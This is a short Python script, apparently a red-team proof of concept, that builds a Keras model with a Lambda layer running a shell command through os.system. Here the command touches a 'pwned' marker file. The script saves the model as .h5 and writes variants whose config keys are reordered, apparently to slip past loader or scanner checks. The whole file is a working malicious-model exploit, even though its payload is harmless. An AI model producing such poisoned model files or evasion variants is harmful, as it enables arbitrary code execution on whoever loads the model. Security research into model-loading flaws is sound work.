import os
os.environ["KERAS_BACKEND"] = "torch"
import keras, h5py, json
m = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: x * 1 if __import__("os").system("touch /tmp/rt17/pwned_h5_keyorder") == 0 else x)])
m.save("base_lambda.h5")
def reorder(v):
    if isinstance(v, dict):
        keys = sorted(v, key=lambda k: k in ("class_name", "module"))
        return {k: reorder(v[k]) for k in keys}
    if isinstance(v, list): return [reorder(x) for x in v]
    return v
import shutil; shutil.copy("base_lambda.h5", "fn_h5_keyorder.h5")
with h5py.File("fn_h5_keyorder.h5", "r+") as f:
    cfg = json.loads(f.attrs["model_config"])
    f.attrs["model_config"] = json.dumps(reorder(cfg))
    print(f.attrs["model_config"][:300])
with h5py.File("base_lambda.h5", "r") as src, h5py.File("fn_h5_keyorder2.h5", "w") as dst:
    for k, v in src.attrs.items():
        dst.attrs[k] = json.dumps(reorder(json.loads(v))) if k in ("model_config", "training_config") else v
    for k in src: src.copy(src[k], dst, name=k)
